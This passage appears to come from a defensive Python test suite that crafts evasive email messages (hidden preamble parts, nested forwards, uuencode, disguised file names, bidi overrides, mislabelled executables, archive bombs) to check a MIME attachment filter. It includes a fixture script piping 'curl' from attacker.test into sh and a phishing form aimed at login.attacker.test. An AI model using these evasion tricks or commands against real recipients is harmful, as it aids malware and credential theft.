mime: ok (nothing is hidden: every part ends at the end of the message; part 0 is flagged unclosed)
""" + VERDICT_EXE


@case("evasion-junk-preamble-epilogue.eml")
def _():
    h, b = attach("report.pdf", PDF, "application/pdf")
    msg = (head("Report") + 'Content-Type: multipart/mixed; boundary="j"\n\n'
           "project falcon is mentioned in the preamble, which no client shows.\n\x01\x02 junk ~~~ --not-a-boundary\n"
           "--j\nContent-Type: text/plain\n\nReport attached.\n--j\n" + h + "\n" + b + "--j--\n"
           "project falcon again in the epilogue\n--j\n\nafter the close delimiter a delimiter line opens nothing\n")
    return msg, """why: junk (control bytes, a keyword, a lookalike delimiter) before the first delimiter; a keyword and a stray delimiter line after the last
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=us-ascii
part: 2 type=application/pdf disp=attachment name="report.pdf" ext=pdf truetype=pdf
keyword: none (preamble and epilogue are not text parts; clients do not show them)
mime: ok
verdict: accept"""


@case("evasion-part-in-preamble.eml")
def _():
    msg = (head("Scan") + 'Content-Type: multipart/mixed; boundary="outer"\n\n'
           "Content-Type: application/x-msdownload; name=\"hidden.exe\"\nContent-Disposition: attachment; "
           "filename=\"hidden.exe\"\nContent-Transfer-Encoding: base64\n\n" + b64(EXE)
           + "\n--outer\nContent-Type: text/plain\n\nThe scan you asked for.\n--outer--\n")
    return msg, """why: a complete part (headers and a base64 exe) written into the preamble, before the first delimiter
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=us-ascii
keyword: none
mime: malformed (MIME header fields in the preamble: a part a lenient reader may find; it is not decoded)
verdict: reject (mime malformed)"""


@case("evasion-nested-rfc822.eml")
def _():
    h, b = attach("payload.exe", EXE)
    inner = ("From: it@example.com\nSubject: Update\nMIME-Version: 1.0\n"
             'Content-Type: multipart/mixed; boundary="in"\n\n--in\nContent-Type: text/plain\n\n'
             "Run the update.\n--in\n" + h + "\n" + b + "--in--\n")
    msg = (head("Fwd: Update") + 'Content-Type: multipart/mixed; boundary="out"\n\n--out\n'
           "Content-Type: text/plain\n\nForwarded.\n--out\nContent-Type: message/rfc822\n\n" + inner + "--out--\n")
    return msg, """why: the exe sits inside a forwarded message (message/rfc822 > multipart/mixed)
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=us-ascii
part: 2 type=message/rfc822
part: 3 type=multipart/mixed (the inner message)
part: 4 type=text/plain charset=us-ascii
""" + EXE_PART % 5 + """
keyword: none
mime: ok
""" + VERDICT_EXE


@case("evasion-nested-rfc822-3deep-zip.eml")
def _():
    z = zip_of([("invoice.exe", EXE)])
    m = ("From: a@partner.test\nSubject: L3\nMIME-Version: 1.0\nContent-Type: application/zip; name=\"invoice.zip\"\n"
         "Content-Disposition: attachment; filename=\"invoice.zip\"\nContent-Transfer-Encoding: base64\n\n" + b64(z))
    for lvl in (2, 1):
        m = ("From: a@partner.test\nSubject: L%d\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n" % lvl) + m
    msg = head("Fwd: Fwd: Fwd: invoice") + "Content-Type: message/rfc822\n\n" + m
    return msg, """why: a zip holding an exe inside three message/rfc822 levels (the top-level message is one itself)
part: 0 type=message/rfc822
part: 1 type=message/rfc822 (inner message L1)
part: 2 type=message/rfc822 (inner message L2)
part: 3 type=application/zip disp=attachment name="invoice.zip" ext=zip truetype=zip inner="invoice.exe" inner-ext=exe (inner message L3)
keyword: none
mime: ok
verdict: reject (attachment inner-ext exe)"""


@case("evasion-uuencode-outside-mime.eml")
def _():
    import binascii
    lines = "".join(binascii.b2a_uu(EXE[i:i + 45]).decode() for i in range(0, len(EXE), 45))
    msg = ("From: Mallory <mallory@attacker.test>\nTo: bob@example.com\nSubject: Invoice\n"
           "Date: Thu, 14 Mar 2024 09:26:52 +0000\n\nHello,\n\nthe invoice is below.\n\n"
           "begin 644 invoice.exe\n" + lines + "`\nend\n\nRegards\n")
    return msg, """why: no MIME at all: a uuencoded block in plain text, which Outlook and others show as an attachment
part: 0 type=text/plain charset=us-ascii (no MIME-Version: defaults)
part: 1 uuencoded block inside part 0: name="invoice.exe" mode=644 ext=exe truetype=exe (counts as an attachment)
keyword: none
mime: ok
""" + VERDICT_EXE


@case("evasion-bare-lf-crlf-mixed.eml", eol="raw")
def _():
    h, b = attach("payload.exe", EXE)
    msg = (head("Invoice").replace("\n", "\r\n")
           + 'Content-Type: multipart/mixed; boundary="mix"\r\n\r\n--mix\n'
           + "Content-Type: text/plain\r\n\nSee attached.\r\n--mix\r\n"
           + h.replace("\n", "\n", 1).replace("name=", "name=", 1) + "\r\n"
           + "".join((ln + ("\r\n" if k % 2 else "\n")) for k, ln in enumerate(b.splitlines()))
           + "--mix--\n")
    return msg, """why: CRLF headers, then delimiters, part headers and base64 lines alternating bare LF and CRLF
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=us-ascii
""" + EXE_PART % 2 + """
keyword: none
mime: ok (either line end ends a line)
""" + VERDICT_EXE


@case("evasion-nul-bytes.eml")
def _():
    msg = (head("Invoice") + 'Content-Type: multipart/mixed; boundary="nul"\n\n--nul\nContent-Type: text/plain\n\n'
           "See the att\0ached invoice.\n--nul\nContent-Type: application/pdf; name=\"invoice.pdf\0.exe\"\n"
           "Content-Disposition: attachment; filename=\"invoice.pdf\0.exe\"\nContent-Transfer-Encoding: base64\n\n"
           + b64(EXE) + "--nul--\n")
    return msg, """why: NUL bytes in text and in the file name: "invoice.pdf\\0.exe" reads as invoice.pdf to C string code
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=us-ascii (holds a NUL)
part: 2 type=application/pdf disp=attachment name="invoice.pdf\\0.exe" saved="invoice.pdf.exe" ext=exe exts=pdf,exe double-ext name-broken truetype=exe
keyword: none
mime: malformed (NUL byte in a part header)
""" + VERDICT_EXE


@case("evasion-folded-part-headers.eml")
def _():
    msg = (head("Invoice") + 'Content-Type: multipart/mixed;\n boundary="fold"\n\n--fold\nContent-Type:\n text/plain\n\n'
           "See attached.\n--fold\nContent-Type: application/octet-stream;\n\tname=\n\t\"payload.exe\"\n"
           "Content-Disposition:\n attachment;\n  filename=\n   \"payload.exe\"\nContent-Transfer-Encoding:\n\tbase64\n\n"
           + b64(EXE) + "--fold--\n")
    return msg, """why: every part header folded, values on continuation lines only, tabs and runs of spaces
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=us-ascii
""" + EXE_PART % 2 + """
keyword: none
mime: ok
""" + VERDICT_EXE


@case("evasion-cte-case-spacing.eml")
def _():
    msg = (head("Invoice") + 'content-TYPE: Multipart/MIXED; BOUNDARY="cAsE"\n\n--cAsE\nContent-Type: TEXT/Plain\n\n'
           "See attached.\n--cAsE\ncOnTeNt-TyPe: APPLICATION/Octet-Stream; NAME=\"payload.exe\"\n"
           "CONTENT-DISPOSITION: ATTACHMENT; FILENAME=\"payload.exe\"\nContent-Transfer-Encoding:  BASE64 \n\n"
           + b64(EXE) + "--cAsE--\n")
    return msg, """why: header names, media types, parameter names and " BASE64 " in mixed case with padding spaces (the boundary value keeps its case)
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=us-ascii
""" + EXE_PART % 2 + """
keyword: none
mime: ok
""" + VERDICT_EXE


@case("evasion-cte-semicolon.eml")
def _():
    msg = (head("Invoice") + 'Content-Type: multipart/mixed; boundary="semi"\n\n--semi\nContent-Type: text/plain\n\n'
           "See attached.\n--semi\nContent-Type: application/octet-stream; name=\"payload.exe\";\n"
           "Content-Disposition: attachment; filename=\"payload.exe\";\nContent-Transfer-Encoding: Base64;\n\n"
           + b64(EXE) + "--semi--\n")
    return msg, """why: "Content-Transfer-Encoding: Base64;" and trailing ';' after the last parameters (seen from broken mailers)
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=us-ascii
""" + EXE_PART % 2 + """
keyword: none
mime: ok (the encoding is read up to the ';': base64)
""" + VERDICT_EXE


@case("evasion-param-odd-spacing.eml")
def _():
    msg = (head("Invoice") + "Content-Type: multipart/mixed ;boundary = \"sp\" ; charset=us-ascii\n\n--sp\n"
           "Content-Type: text/plain\n\nSee attached.\n--sp\nContent-Type: application/octet-stream ; NaMe = payload.exe\n"
           "Content-Disposition: attachment ;FileName=payload.exe ;size = 1024\nContent-Transfer-Encoding: base64\n\n"
           + b64(EXE) + "--sp--\n")
    return msg, """why: spaces around ';' and '=', unquoted parameter values, odd case in parameter names
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=us-ascii
""" + EXE_PART % 2 + """
keyword: none
mime: ok
""" + VERDICT_EXE


@case("evasion-boundary-prefix-nested.eml")
def _():
    h, b = attach("payload.exe", EXE)
    msg = (head("Invoice") + 'Content-Type: multipart/mixed; boundary="frontier"\n\n--frontier\n'
           'Content-Type: multipart/alternative; boundary="frontier-2"\n\n--frontier-2\nContent-Type: text/plain\n\n'
           "Plain.\n--frontier-2\nContent-Type: text/html\n\n<p>Html.</p>\n--frontier-2--\n--frontier\n" + h + "\n" + b
           + "--frontier--\n")
    return msg, """why: the outer boundary "frontier" is a prefix of the inner "frontier-2": a prefix-matching parser closes the outer part early
part: 0 type=multipart/mixed
part: 1 type=multipart/alternative
part: 2 type=text/plain charset=us-ascii
part: 3 type=text/html charset=us-ascii
""" + EXE_PART % 4 + """
keyword: none
mime: ok (a delimiter matches its whole boundary, then only spaces or "--")
""" + VERDICT_EXE


@case("evasion-boundary-transport-padding.eml")
def _():
    h, b = attach("payload.exe", EXE)
    msg = (head("Invoice") + 'Content-Type: multipart/mixed; boundary="pad"\n\n--pad   \nContent-Type: text/plain\n\n'
           "See attached.\n--pad\t \n" + h + "\n" + b + "--pad--  \t\n")
    return msg, """why: delimiter lines followed by spaces and tabs (RFC 2046 transport padding, legal)
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=us-ascii
""" + EXE_PART % 2 + """
keyword: none
mime: ok
""" + VERDICT_EXE




@case("evasion-duplicate-content-type.eml")
def _():
    msg = (head("Invoice") + 'Content-Type: multipart/mixed; boundary="dup"\n\n--dup\nContent-Type: text/plain\n\n'
           "See attached.\n--dup\nContent-Type: text/plain\nContent-Type: application/x-msdownload; name=\"payload.exe\"\n"
           "Content-Transfer-Encoding: base64\n\n" + b64(EXE) + "--dup--\n")
    return msg, """why: a part with two different Content-Type fields: the first (text/plain) is used, a reader taking the last sees payload.exe
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=us-ascii
part: 2 type=text/plain charset=us-ascii (first Content-Type; no name) truetype=exe (every leaf part is sniffed)
keyword: none
mime: malformed (Content-Type repeated with different values)
""" + VERDICT_EXE


@case("evasion-rfc822-base64.eml")
def _():
    h, b = attach("payload.exe", EXE)
    inner = ("From: it@example.com\nSubject: Update\nMIME-Version: 1.0\n"
             'Content-Type: multipart/mixed; boundary="in"\n\n--in\nContent-Type: text/plain\n\n'
             "Run the update.\n--in\n" + h + "\n" + b + "--in--\n").replace("\n", "\r\n")
    msg = (head("Fwd: Update") + 'Content-Type: multipart/mixed; boundary="out"\n\n--out\n'
           "Content-Type: text/plain\n\nForwarded.\n--out\nContent-Type: message/rfc822\n"
           "Content-Transfer-Encoding: base64\n\n" + b64(inner.encode()) + "--out--\n")
    return msg, """why: message/rfc822 in base64 (RFC 2046 forbids it; some readers decode it and show the exe inside)
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=us-ascii
part: 2 type=message/rfc822 (read as a leaf: decoded, not parsed) truetype=unknown (a message)
keyword: none
mime: malformed (base64 transfer encoding on message/rfc822)
verdict: reject (mime malformed)"""


@case("evasion-boundary-bare-cr.eml")
def _():
    msg = (head("Invoice") + 'Content-Type: multipart/mixed; boundary="cr"\n\n--cr\nContent-Type: text/plain\n\n'
           "See attached.\n--cr\rContent-Type: application/octet-stream; name=\"payload.exe\"\n"
           "Content-Transfer-Encoding: base64\n\n" + b64(EXE) + "--cr--\n")
    return msg, """why: "--cr" then a bare CR and a header on the same line: a reader that breaks lines at CR sees a delimiter and an exe part
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=us-ascii (the "--cr<CR>..." line and the base64 are its text)
keyword: none
mime: malformed (delimiter followed by a bare CR and more text)
verdict: reject (mime malformed)"""


@case("evasion-base64-junk-chars.eml")
def _():
    lines = b64(EXE).splitlines()
    junk = ["%s %s" % (ln[:20], ln[20:]) if k % 3 == 0 else ("%s*!%s" % (ln[:30], ln[30:]) if k % 3 == 1 else ln + "\t")
            for k, ln in enumerate(lines)]
    msg = mixed("Invoice", 'Content-Type: application/octet-stream; name="payload.exe"\n'
                'Content-Disposition: attachment; filename="payload.exe"\nContent-Transfer-Encoding: base64\n',
                "\n".join(junk) + "\n")
    return msg, """why: base64 with spaces, tabs, '*' and '!' inside lines: RFC 2045 says characters outside the alphabet are ignored
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=us-ascii
""" + EXE_PART % 2 + """
keyword: none
mime: ok
""" + VERDICT_EXE


# ================================================================ file names
# The content is harmless text, so that the verdict comes from the name alone.


def named(subject, ct_params, cd_params, data=HARMLESS, ctype="application/octet-stream"):
    """One attachment whose Content-Type and Content-Disposition parameters are written as given."""
    return mixed(subject, "Content-Type: %s;%s\nContent-Disposition: attachment;%s\n"
                 "Content-Transfer-Encoding: base64\n" % (ctype, ct_params, cd_params), b64(data))


def name_facts(why, name, ext, extra="", mime="ok", verdict="reject (attachment ext exe)", keyword="none",
               ctype="application/octet-stream"):
    return ("why: %s\npart: 0 type=multipart/mixed\n%s\npart: 2 type=%s disp=attachment name=\"%s\" ext=%s%s "
            "truetype=unknown\nkeyword: %s\nmime: %s\nverdict: %s" % (why, text1(1), ctype, name, ext,
                                                                      extra, keyword, mime, verdict))


@case("name-filename-vs-name.eml")
def _():
    return (named("Report", ' name="report.pdf"', ' filename="report.exe"'),
            "why: Content-Type name= says report.pdf, Content-Disposition filename= says report.exe: both count\n"
            "part: 0 type=multipart/mixed\n" + text1(1) + "\n"
            'part: 2 type=application/octet-stream disp=attachment name="report.exe" ext=exe '
            'name2="report.pdf" ext2=pdf truetype=unknown\n'
            "keyword: none\nmime: ok\nverdict: reject (attachment ext exe)")


@case("name-2231-continuation.eml")
def _():
    return (named("Report", ' name*0="pay"; name*1="load.e"; name*2="xe"',
                  '\n filename*0="pay";\n filename*1="load.e";\n filename*2="xe"'),
            name_facts("RFC 2231 continuations in order, folded: pay + load.e + xe", "payload.exe", "exe"))


@case("name-2231-out-of-order.eml")
def _():
    return (named("Report", ' name*2="xe"; name*0="pay"; name*1="load.e"',
                  ' filename*2="xe"; filename*0="pay"; filename*1="load.e"'),
            name_facts("RFC 2231 continuations out of order (*2, *0, *1): joined by number, not position",
                       "payload.exe", "exe"))


@case("name-2231-missing-piece.eml")
def _():
    return (named("Report", ' name*0="invoice.pdf"; name*2=".exe"', ' filename*0="invoice.pdf"; filename*2=".exe"'),
            "why: RFC 2231 continuation *1 missing: some clients stop at the gap (invoice.pdf), some join the rest (invoice.pdf.exe)\n"
            "part: 0 type=multipart/mixed\n" + text1(1) + "\n"
            'part: 2 type=application/octet-stream disp=attachment name="invoice.pdf.exe" ext=exe exts=pdf,exe double-ext '
            'name-broken truetype=unknown (pieces present joined in order; a reader that stops at the gap shows invoice.pdf)\n'
            "keyword: none\nmime: ok (the part's name is flagged broken: RFC 2231 piece *1 is missing)\nverdict: reject (attachment ext exe)")


@case("name-2231-charset-lang.eml")
def _():
    return (named("Rechnung", " name*=utf-8'ru'%D0%A1%D1%87%D0%B5%D1%82.exe",
                  " filename*=utf-8'ru'%D0%A1%D1%87%D0%B5%D1%82.exe"),
            name_facts("RFC 2231 charset'lang'%XX: utf-8'ru' Cyrillic name ending in .exe", "Счет.exe", "exe"))


@case("name-2231-mixed-pieces.eml")
def _():
    return (named("Rechnung", " name*0*=utf-8''%E2%82%AC%20invoice; name*1=\".pdf\"; name*2*=%2Eexe",
                  " filename*0*=utf-8''%E2%82%AC%20invoice; filename*1=\".pdf\"; filename*2*=%2Eexe"),
            name_facts("RFC 2231 encoded (*0*, *2*) and plain quoted (*1) pieces mixed: \"€ invoice\" + \".pdf\" + \".exe\"",
                       "€ invoice.pdf.exe", "exe", " exts=pdf,exe double-ext"))


@case("name-2047-in-name.eml")
def _():
    return (named("Rechnung", ' name="=?UTF-8?B?cGF5bG9hZC5leGU=?="',
                  ' filename="=?iso-8859-1?Q?Rechnung=5F2024=2Eexe?="'),
            "why: RFC 2047 encoded words inside quoted parameters (forbidden by the RFC, written by many mailers, decoded by clients)\n"
            "part: 0 type=multipart/mixed\n" + text1(1) + "\n"
            'part: 2 type=application/octet-stream disp=attachment name="Rechnung_2024.exe" ext=exe '
            'name2="payload.exe" ext2=exe truetype=unknown\n'
            "keyword: none\nmime: ok\nverdict: reject (attachment ext exe)")


@case("name-trailing-dot.eml")
def _():
    return (named("Invoice", ' name="invoice.exe."', ' filename="invoice.exe."'),
            name_facts("trailing dot: Windows saves invoice.exe. as invoice.exe", "invoice.exe.", "exe",
                       ' saved="invoice.exe"'))


@case("name-trailing-spaces.eml")
def _():
    return (named("Invoice", ' name="invoice.exe  "', ' filename="invoice.exe  "'),
            name_facts("trailing spaces: Windows saves 'invoice.exe  ' as invoice.exe", "invoice.exe  ", "exe",
                       ' saved="invoice.exe"'))


@case("name-trailing-dots-spaces-mixed.eml")
def _():
    return (named("Invoice", ' name="invoice.exe . . "', ' filename="invoice.exe . . "'),
            name_facts("trailing dots and spaces interleaved: 'invoice.exe . . ' is still saved as invoice.exe",
                       "invoice.exe . . ", "exe", ' saved="invoice.exe"'))


@case("name-double-ext.eml")
def _():
    return (named("Invoice", ' name="invoice.pdf.exe"', ' filename="invoice.pdf.exe"'),
            name_facts("double extension invoice.pdf.exe", "invoice.pdf.exe", "exe", " exts=pdf,exe double-ext"))


@case("name-double-ext-spaces.eml")
def _():
    n = "invoice.pdf" + " " * 40 + ".exe"
    return (named("Invoice", ' name="%s"' % n, ' filename="%s"' % n),
            name_facts("double extension hidden behind 40 spaces (the .exe falls off the visible column)",
                       "invoice.pdf<40 spaces>.exe", "exe", " exts=pdf,exe double-ext"))


@case("name-double-ext-html.eml")
def _():
    html = b"<html><body><form action='https://login.attacker.test/'>Password: <input name=p></form></body></html>\n"
    return (named("Your document", ' name="scan_0042.pdf.html"', ' filename="scan_0042.pdf.html"', html, "text/html"),
            name_facts("double extension whose last one (html) is not in the exe list: the double-ext rule decides",
                       "scan_0042.pdf.html", "html", " exts=pdf,html double-ext", ctype="text/html",
                       verdict="reject (attachment double-ext)").replace("truetype=unknown", "truetype=unknown (html)"))


@case("name-bidi-rlo.eml")
def _():
    return (named("Invoice", ' name="=?UTF-8?Q?invoice=E2=80=AEfdp=2Eexe?="',
                  " filename*=UTF-8''invoice%E2%80%AEfdp.exe"),
            name_facts("U+202E RIGHT-TO-LEFT OVERRIDE: invoice\\u202Efdp.exe displays as invoiceexe.pdf (2231 and 2047 forms)",
                       "invoice\\u202Efdp.exe", "exe", " bidi", verdict="reject (attachment bidi)"))


@case("name-path-traversal.eml")
def _():
    return (named("Invoice", ' name="..\\\\..\\\\a.exe"', ' filename="..\\..\\a.exe"'),
            "why: a Windows path in the name: quoted-pair form in name=, raw backslashes (as Windows mailers write) in filename=\n"
            "part: 0 type=multipart/mixed\n" + text1(1) + "\n"
            'part: 2 type=application/octet-stream disp=attachment name="....a.exe" (filename= read as RFC quoted-pairs; '
            'a reader that keeps backslashes sees ..\\..\\a.exe: ext exe either way) ext=exe '
            'name2="..\\..\\a.exe" saved2="a.exe" ext2=exe path truetype=unknown\n'
            "keyword: none\nmime: ok\nverdict: reject (attachment ext exe)")


@case("name-path-unix.eml")
def _():
    return (named("Invoice", ' name="../../../tmp/a.sh"', ' filename="/etc/cron.d/../../tmp/a.sh"'),
            "why: Unix paths in both names; only the last component is the file name\n"
            "part: 0 type=multipart/mixed\n" + text1(1) + "\n"
            'part: 2 type=application/octet-stream disp=attachment name="/etc/cron.d/../../tmp/a.sh" saved="a.sh" ext=sh '
            'name2="../../../tmp/a.sh" ext2=sh path truetype=unknown\n'
            "keyword: none\nmime: ok\nverdict: reject (attachment ext sh)")


@case("name-upper-case.eml")
def _():
    return (named("Invoice", ' name="A.EXE"', ' filename="A.EXE"'),
            name_facts("upper case A.EXE: extensions compare case-folded", "A.EXE", "exe"))



# ================================================================ true types that lie


def lie(subject, name, ctype, data, why, truetype, verdict, extra=""):
    h, b = attach(name, data, ctype)
    ext = name.rsplit(".", 1)[1].lower()
    return (mixed(subject, h, b),
            "why: %s\npart: 0 type=multipart/mixed\n%s\npart: 2 type=%s disp=attachment name=\"%s\" ext=%s "
            "truetype=%s%s\nkeyword: none\nmime: ok\nverdict: %s" % (why, text1(1), ctype, name, ext, truetype,
                                                                    extra, verdict))


@case("truetype-exe-as-pdf.eml")
def _():
    return lie("Invoice", "invoice.pdf", "application/pdf", EXE,
               "a PE executable (MZ, e_lfanew -> PE\\0\\0) named invoice.pdf and declared application/pdf",
               "exe", "reject (attachment truetype exe)")


@case("truetype-elf-as-txt.eml")
def _():
    return lie("Notes", "notes.txt", "text/plain", elf_exe(),
               "an x86-64 ELF executable named notes.txt and declared text/plain (base64, so not a text part to scan)",
               "elf", "reject (attachment truetype elf)")


@case("truetype-macho-as-pdf.eml")
def _():
    return lie("Invoice", "invoice.pdf", "application/pdf", macho_exe(),
               "a 64-bit Mach-O executable (CF FA ED FE) named invoice.pdf", "macho",
               "reject (attachment truetype macho)")


@case("truetype-zip-as-jpg.eml")
def _():
    return lie("Photos", "photo.jpg", "image/jpeg", zip_of([("photo.scr", EXE)]),
               "a zip named photo.jpg and declared image/jpeg, holding photo.scr", "zip",
               "reject (attachment inner-ext scr)", ' inner="photo.scr" inner-ext=scr')


@case("truetype-docm-as-docx.eml")
def _():
    return lie("Order", "order.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docm(),
               "a macro-enabled Word document (zip with word/vbaProject.bin) named .docx", "ooxml-macro",
               "reject (attachment truetype ooxml-macro)")


@case("truetype-ole-macro-doc.eml")
def _():
    return lie("Order", "order.doc", "application/msword", ole_doc_macro(),
               "an OLE2 Word .doc (D0 CF 11 E0 A1 B1 1A E1) with Macros/VBA/_VBA_PROJECT directory entries",
               "ole-macro", "reject (attachment truetype ole-macro)")


@case("truetype-ole-plain-doc.eml")
def _():
    return lie("Minutes", "minutes.doc", "application/msword", ole_doc_plain(),
               "a plain OLE2 Word .doc without a VBA project: an old but clean document", "ole", "accept")


@case("truetype-pdf.eml")
def _():
    return lie("Brochure", "brochure.pdf", "application/pdf", pdf_doc("Brochure"),
               "a real one-page PDF, declared and named as one", "pdf", "accept")


@case("truetype-iso-as-dat.eml")
def _():
    return lie("Shipping documents", "Order_4471.dat", "application/octet-stream", iso9660(),
               "an ISO 9660 image (CD001 at offset 32769; 25 sectors, the least libarchive reads as one) holding "
               "INVOICE.EXE, named .dat: the sniffer must look past the first 32 KB", "iso", "reject (attachment truetype iso)",
               ' inner="INVOICE.EXE" inner-ext=exe (libarchive also lists the root directory as ".")')


@case("truetype-script-as-txt.eml")
def _():
    return lie("Setup", "setup.txt", "application/octet-stream",
               b"#!/bin/sh\ncurl -s https://attacker.test/x | sh\n",
               "a shell script (#!/bin/sh) named setup.txt", "script", "reject (attachment truetype script)")


@case("attach-declared-type.eml")
def _():
    h, b = attach("update.bin", HARMLESS, "application/x-msdownload")
    return (mixed("Update", h, b),
            "why: harmless bytes declared application/x-msdownload: the declared type alone decides\n"
            "part: 0 type=multipart/mixed\n" + text1(1) + "\n"
            'part: 2 type=application/x-msdownload disp=attachment name="update.bin" ext=bin truetype=unknown\n'
            "keyword: none\nmime: ok\nverdict: reject (attachment type application/x-msdownload)")


@case("attach-hash-known.eml")
def _():
    import hashlib
    h, b = attach("statement.txt", KNOWN_BAD, "text/plain")
    return (mixed("Statement", h, b),
            "why: an attachment whose SHA-256 is listed in mime.rules (the content itself is harmless text)\n"
            "part: 0 type=multipart/mixed\n" + text1(1) + "\n"
            'part: 2 type=text/plain disp=attachment name="statement.txt" ext=txt truetype=unknown sha256=%s\n'
            "keyword: none\nmime: ok\nverdict: reject (attachment hash)" % hashlib.sha256(KNOWN_BAD).hexdigest())


# ================================================================ archives


def arch(subject, name, ctype, data, why, truetype, inner, verdict, mime="ok", extra=""):
    h, b = attach(name, data, ctype)
    ext = name.rsplit(".", 1)[1].lower()
    return (mixed(subject, h, b),
            "why: %s\npart: 0 type=multipart/mixed\n%s\npart: 2 type=%s disp=attachment name=\"%s\" ext=%s%s "
            "truetype=%s %s\nkeyword: none\nmime: %s\nverdict: %s" % (why, text1(1), ctype, name, ext, extra,
                                                                      truetype, inner, mime, verdict))


@case("archive-zip-exe.eml")
def _():
    return arch("Invoice", "invoice.zip", "application/zip", zip_of([("invoice.exe", EXE)]),
                "a zip holding invoice.exe", "zip", 'inner="invoice.exe" inner-ext=exe',
                "reject (attachment inner-ext exe)")


@case("archive-zip-clean.eml")
def _():
    return arch("Photos", "photos.zip", "application/zip",
                zip_of([("holiday/", b""), ("holiday/beach.jpg", jpeg_tiny()), ("holiday/notes.txt", b"Day 1: sun\n")]),
                "a clean zip: a folder, a jpeg and a text file", "zip",
                'inner="holiday/","holiday/beach.jpg","holiday/notes.txt" inner-ext=jpg,txt', "accept")


@case("archive-zip-nested.eml")
def _():
    z3 = zip_of([("payload.exe", EXE)])
    z2 = zip_of([("level3.zip", z3)])
    z1 = zip_of([("level2.zip", z2), ("readme.txt", b"open level2\n")])
    return arch("Documents", "documents.zip", "application/zip", z1,
                "zip in zip in zip: documents.zip holds level2.zip holds level3.zip holds payload.exe (depth 3)", "zip",
                'inner="level2.zip","level2.zip>level3.zip","level2.zip>level3.zip>payload.exe","readme.txt" '
                "inner-ext=zip,exe,txt", "reject (attachment inner-ext exe)")


@case("archive-zip-encrypted.eml")
def _():
    z = zip_encrypted([("invoice.pdf", pdf_doc("Invoice"))], "4471")
    h, b = attach("invoice.zip", z, "application/zip")
    return (mixed("Invoice", h, b, text="The password is 4471.\n"),
            "why: traditional PKWARE encryption as zip -P writes it: the entry name is still listed, the content cannot be read\n"
            "part: 0 type=multipart/mixed\n" + text1(1) + "\n"
            'part: 2 type=application/zip disp=attachment name="invoice.zip" ext=zip truetype=zip inner="invoice.pdf" '
            "inner-ext=pdf encrypted\nkeyword: none\nmime: ok\nverdict: quarantine (attachment encrypted)")


@case("archive-7z.eml")
def _():
    return arch("Invoice", "invoice.7z", "application/x-7z-compressed",
                seven_z([("invoice.js", b"WScript.Echo('hi');\n"), ("readme.txt", b"run invoice.js\n")]),
                "a 7z archive holding a JScript file", "7z", 'inner="invoice.js","readme.txt" inner-ext=js,txt',
                "reject (attachment inner-ext js)")


@case("archive-tar-gz.eml")
def _():
    return arch("Logs", "logs.tar.gz", "application/gzip",
                tar_gz([("logs/", b"", 0o755), ("logs/app.log", b"ok\n", 0o644), ("logs/update.exe", EXE, 0o755)]),
                "a gzip-compressed tar holding update.exe", "gzip (tar inside)",
                'inner="logs/","logs/app.log","logs/update.exe" inner-ext=log,exe',
                "reject (attachment inner-ext exe)", extra=" exts=tar,gz double-ext")


@case("archive-bomb-zeros.eml")
def _():
    return arch("Backup", "backup.zip", "application/zip", zip_of([("zeros.bin", b"\0" * (10 << 20))]),
                "10 MiB of zeros deflated to ~10 KB (~1000:1): a zip lists from its central directory, "
                "nothing is inflated, so no limit is reached and nothing in it is named badly", "zip",
                'inner="zeros.bin" inner-ext=bin claimed=10485760', "accept")


@case("archive-bomb-claims-4g.eml")
def _():
    data = deflate_raw(b"\0" * (1 << 20))
    usize = 4000000000
    crc = 0x1B8A5C3D
    z = zip_raw([("disk.img", 8, data, usize, crc), ("disk2.img", 8, data, usize, crc)],
                [("disk.img", 8, len(data), usize, crc, 0), ("disk2.img", 8, len(data), usize, crc, 1)])
    return arch("Backup", "backup.zip", "application/zip", z,
                "a hand-written zip whose headers claim 2 x 4,000,000,000 bytes (the data inflates to 1 MiB each): "
                "listed, never inflated", "zip",
                'inner="disk.img","disk2.img" inner-ext=img claimed=8000000000',
                "reject (attachment inner-ext img)")


@case("archive-bomb-tgz.eml")
def _():
    return arch("Backup", "backup.tar.gz", "application/gzip",
                tar_gz([("zeros.bin", b"\0" * (10 << 20), 0o644), ("after.exe", EXE, 0o755)]),
                "a tar.gz of 10 MiB of zeros then an exe: a stream format must be inflated to list, "
                "so the expansion limit stops the listing before after.exe", "gzip (tar inside)",
                'inner="zeros.bin" inner-ext=bin (after.exe lies past the limit)', "reject (mime limit)",
                mime="limit (archive expansion)", extra=" exts=tar,gz double-ext")


@case("archive-zip-2000-entries.eml")
def _():
    alpha = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
    names = list(alpha) + [a + b for a in alpha for b in alpha]
    names = names[:2000]
    return arch("Archive", "many.zip", "application/zip", zip_of([(n, b"") for n in names], zipfile.ZIP_STORED),
                "a zip with 2,000 empty stored entries (one- and two-character names): the entry limit", "zip",
                "inner=2000 entries", "reject (mime limit)", mime="limit (archive entries)")


@case("archive-txz-2000-entries.eml")
def _():
    return arch("Archive", "many.tar.xz", "application/x-xz",
                tar_xz([("f%04d" % k, b"", 0o644) for k in range(2000)]),
                "a tar.xz with 2,000 empty entries: the entry limit for a streamed format (small on the wire)", "xz (tar inside)",
                "inner=2000 entries", "reject (mime limit)", mime="limit (archive entries)",
                extra=" exts=tar,xz double-ext")



# ================================================================ keywords
# mime.rules: keywords secret { "project falcon", "geschäftsgeheimnis", "секретно" } -> redirect;
#             keywords adult word { "sex" } -> tag subject "[ADULT]".


def kw(subject, ctype, cte, body, frm="Nora <nora@partner.test>"):
    return head(subject, frm=frm) + "Content-Type: %s\nContent-Transfer-Encoding: %s\n\n" % (ctype, cte) + body


def kw_facts(why, part0, where="part 0", verdict=KW_SECRET, word="project falcon", keyword=None):
